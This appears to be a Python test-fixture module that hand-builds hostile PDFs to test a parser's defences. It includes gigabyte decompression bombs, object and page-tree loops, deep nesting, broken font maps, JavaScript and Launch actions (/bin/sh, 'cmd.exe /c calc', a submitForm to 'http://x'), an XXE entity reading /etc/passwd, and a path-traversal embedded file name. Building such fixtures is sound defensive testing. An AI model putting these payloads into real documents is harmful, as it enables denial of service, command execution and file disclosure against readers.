"""Hostile PDFs, written by hand: every object, length and offset may lie."""

import base64
import zlib
from collections.abc import Mapping, Sequence
from functools import cache, reduce

from tests.failures.common import PDF

CATALOG = b"<< /Type /Catalog /Pages 2 0 R %b >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
WORDS = b"BT /F1 12 Tf 72 700 Td (Independent Medical Review) Tj ET"
CALM = b"[0 0 612 792]"
GIGABYTE = 1 << 30


def stream(content: bytes, entries: bytes = b"", length: int | None = None) -> bytes:
    """A stream object; its length is told truly unless another one is given."""
    told = len(content) if length is None else length
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (told, entries, content)


def page(box: bytes = CALM, entries: bytes = b"") -> bytes:
    resources = b"/Resources << /Font << /F1 5 0 R >> >>"
    return b"<< /Type /Page /Parent 2 0 R /MediaBox %b /Contents 4 0 R %b %b >>" % (box, resources, entries)


def file_of(objects: Mapping[int, bytes], trailer: bytes = b"", shift: int = 0) -> bytes:
    """A PDF of some numbered objects; `shift` moves every offset of its table beside the truth."""
    body, places = bytearray(b"%PDF-1.7\n"), {}
    for number, content in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table, size = len(body), max(objects) + 1
    body += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        known = number in places
        place = places[number] + shift if known else 0
        body += b"%010d %05d %b \n" % (place, 0 if known else 65535, b"n" if known else b"f")
    body += b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        trailer,
        table + shift,
    )
    return bytes(body)


def plain(
    content: bytes | None = None,
    *,
    sheet: bytes | None = None,
    catalog: bytes = b"",
    more: Mapping[int, bytes] = {},
) -> bytes:
    """A PDF of one page; its content is an object as a whole."""
    objects = {
        1: CATALOG % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: sheet or page(),
        4: content or stream(WORDS),
        5: FONT,
    }
    return file_of({**objects, **more})


@cache
def bomb(size: int = GIGABYTE, unit: bytes = b"0 0 m ") -> bytes:
    """What unpacks to some size, and packed twice is small; to pack one block, and repeat it, is quick."""
    block = unit * (1 << 20)
    count = size // len(block)
    pack = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    packed = pack.compress(block) + pack.flush(zlib.Z_FULL_FLUSH)
    checksum = reduce(lambda before, _: zlib.adler32(block, before), range(count), 1)
    return b"\x78\xda" + packed * count + pack.flush() + checksum.to_bytes(4, "big")


def bomb_in_a_page() -> bytes:
    return plain(stream(zlib.compress(bomb(), 9), b"/Filter [/FlateDecode /FlateDecode]"))


def bomb_in_an_object_stream() -> bytes:
    entries = b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]"
    return with_object_stream(stream(zlib.compress(bomb(unit=b"3 0 null "), 9), entries))


def object_stream_loop() -> bytes:
    """The stream that holds the objects says that it extends itself, and holds the pages."""
    return with_object_stream(
        stream(b"2 0 << /Type /Pages >>", b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R")
    )


def with_object_stream(objects: bytes) -> bytes:
    """A PDF whose pages are in an object stream, as its table, itself a stream, says."""
    body, places = bytearray(b"%PDF-1.7\n"), {}
    for number, content in ((1, CATALOG % b""), (6, objects)):
        places[number] = len(body)
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    rows = [(0, 0, 255), (1, places[1], 0), (2, 6, 0), (2, 6, 1), (0, 0, 255), (0, 0, 255), (1, places[6], 0)]
    rows.append((1, len(body), 0))
    table = b"".join(kind.to_bytes(1) + place.to_bytes(4) + rest.to_bytes(1) for kind, place, rest in rows)
    start = len(body)
    body += b"7 0 obj\n" + stream(table, b"/Type /XRef /Size 8 /Root 1 0 R /W [1 4 1]") + b"\nendobj\n"
    return bytes(body + b"startxref\n%d\n%%%%EOF\n" % start)


def table_loop() -> bytes:
    place = plain().rindex(b"xref\n0 ")
    return plain().replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)


def tree_loop() -> bytes:
    return plain(more={2: b"<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 3 /Parent 2 0 R >>"})


def deep_tree(depth: int = 5000) -> bytes:
    first = 10
    nodes = {
        first + level: b"<< /Type /Pages /Count 1 /Parent %d 0 R /Kids [%d 0 R] >>"
        % (first + level - 1 if level else 2, first + level + 1 if level + 1 < depth else 3)
        for level in range(depth)
    }
    return plain(more={2: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % first} | nodes)


def many_pages(count: int = 100_000) -> bytes:
    kids = b"3 0 R " * count
    return plain(more={2: b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count)})


def huge_picture() -> bytes:
    pixels = stream(
        zlib.compress(bytes(1000)),
        b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8"
        b" /ColorSpace /DeviceRGB /Filter /FlateDecode",
    )
    sheet = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /XObject << /P 6 0 R >> >> >>"
    )
    return plain(stream(b"612 0 0 792 0 0 cm /P Do"), sheet=sheet, more={6: pixels})


def with_box(box: bytes) -> bytes:
    """A letter whose pages have another media box."""
    assert b"/MediaBox [ 0 0 612 792 ]" in PDF
    return PDF.replace(b"/MediaBox [ 0 0 612 792 ]", b"/MediaBox [ %b ]" % box)


def with_actions() -> bytes:
    """Opens a program, runs a script and sends the letter away, if its reader lets it."""
    actions = (
        b"/OpenAction << /S /JavaScript /JS (while \\(true\\) app.alert\\(1\\);) >>"
        b" /AA << /WC << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"
        b" /Names << /JavaScript << /Names [(x)"
        b" << /S /JavaScript /JS (this.submitForm\\('http://x'\\)) >>] >> >>"
    )
    return plain(catalog=actions)


def with_form_in_xml() -> bytes:
    form = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]></xdp:xdp>"
    return plain(
        catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true", more={6: stream(form)}
    )


def with_files_inside() -> bytes:
    names = (
        b"/Names << /EmbeddedFiles << /Names [(../../x.pdf) 6 0 R] >> >> /Collection << /Type /Collection >>"
    )
    spec = b"<< /Type /Filespec /F (../../x.pdf) /UF (../../x.pdf) /EF << /F 7 0 R >> >>"
    return plain(catalog=names, more={6: spec, 7: stream(PDF, b"/Type /EmbeddedFile")})


def with_broken_map() -> bytes:
    """A type face whose table of characters is broken, endless and names what is none."""
    table = (
        b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FFFFFFFF>"
        b" endcodespacerange 2000000000 beginbfrange <00> <FFFFFFFF> <D800> <41> <40> <zz> <20>"
        b" <7E> [ <0041> endbfrange"
        b" 1 beginbfchar <4" + b"1" * 5000 + b"> <DC00DC00DC00> endbfchar /Self usecmap"
    )
    face = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts"
        b" [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /W [0 [1e99 -1] 5 4 3] /CIDSystemInfo"
        b" << /Registry (A) /Ordering (B) /Supplement 0 >> >>] >>"
    )
    return plain(more={5: face, 6: stream(table)})


def seen_by_one_engine() -> bytes:
    """A page that is there twice, which pdfminer gives once, in a type face that PDFium cannot read."""
    face = b"<< /Type /Font /Subtype /Type1 /BaseFont /X /ToUnicode 6 0 R /Encoding /Unheard >>"
    table = b"begincmap 1 beginbfrange <00> <FF> <E000> endbfrange endcmap"
    kids = b"<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>"
    return plain(more={2: kids, 5: face, 6: stream(table)})


def annotated(*annotations: bytes, form: bytes = b"", more: Mapping[int, bytes] = {}) -> bytes:
    """A letter's words with things that lie on them, numbered from 20."""
    numbered = {20 + number: annotation for number, annotation in enumerate(annotations)}
    listed = b" ".join(b"%d 0 R" % number for number in numbered)
    catalog = b"/AcroForm << /Fields [%b] %b >>" % (listed, form)
    return plain(sheet=page(entries=b"/Annots [%b]" % listed), catalog=catalog, more={**numbered, **more})


def note(kind: bytes, entries: bytes, rect: bytes = b"72 600 300 616") -> bytes:
    return b"<< /Type /Annot /Subtype /%b /Rect [%b] %b >>" % (kind, rect, entries)


def appearance_that_draws_itself() -> bytes:
    resources = b"/Resources << /XObject << /X 30 0 R >> /Font << /F1 5 0 R >> >>"
    form = stream(b"/X Do " + WORDS + b" /X Do", b"/Subtype /Form /BBox [0 0 612 792] " + resources)
    return annotated(note(b"Stamp", b"/AP << /N 30 0 R >>"), more={30: form})


def bomb_in_an_appearance() -> bytes:
    entries = b"/Subtype /Form /BBox [0 0 9 9] /Filter [/FlateDecode /FlateDecode]"
    form = stream(zlib.compress(bomb(), 9), entries)
    return annotated(note(b"Stamp", b"/AP << /N 30 0 R >>"), more={30: form})


def fields_in_a_circle() -> bytes:
    """Form fields each of which belongs to the next."""
    return annotated(*(note(b"Widget", b"/Parent %d 0 R" % (20 + (number + 1) % 5)) for number in range(5)))


def many_notes(count: int = 5_000) -> bytes:
    return annotated(*[note(b"FreeText", b"/Contents (Upheld)")] * count)


def of_operators(unit: bytes, count: int, tail: bytes = b"") -> bytes:
    content = b"BT /F1 12 Tf 72 700 Td " + unit * count + tail
    return plain(stream(zlib.compress(content), b"/Filter /FlateDecode"))


def nested(opening: bytes, count: int = 200_000) -> bytes:
    return plain(stream(zlib.compress(opening * count + WORDS), b"/Filter /FlateDecode"))


def nested_object(opening: bytes, count: int = 200_000) -> bytes:
    return plain(catalog=b"/Deep " + opening * count)


def form_that_draws_itself() -> bytes:
    form = stream(
        b"/X Do /X Do " + WORDS,
        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X 6 0 R >> >>",
    )
    sheet = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /XObject << /X 6 0 R >> >> >>"
    )
    return plain(stream(b"/X Do"), sheet=sheet, more={6: form})


def cascade(filters: int = 2000) -> bytes:
    """A stream that is packed in so many layers, as it says."""
    names = b"/ASCIIHexDecode " * filters
    return plain(stream(base64.b16encode(WORDS) + b">", b"/Filter [%b]" % names))


def cut_points() -> Sequence[tuple[str, int]]:
    """Kinds of places at which a download may end."""
    table = PDF.rindex(b"xref\n0 ")
    content = PDF.index(b"stream")
    return (
        ("in the mark", 4),
        ("in the first object", PDF.index(b"obj") + 10),
        ("in a stream", content + 200),
        ("behind a stream", PDF.index(b"endstream") + 9),
        ("before the table", table),
        ("in the table", table + 45),
        ("in the trailer", PDF.rindex(b"trailer") + 12),
        ("before the place of the table", PDF.rindex(b"startxref") + 9),
        ("in the last mark", len(PDF.rstrip()) - 2),
        ("before the last byte", len(PDF) - 1),
    )
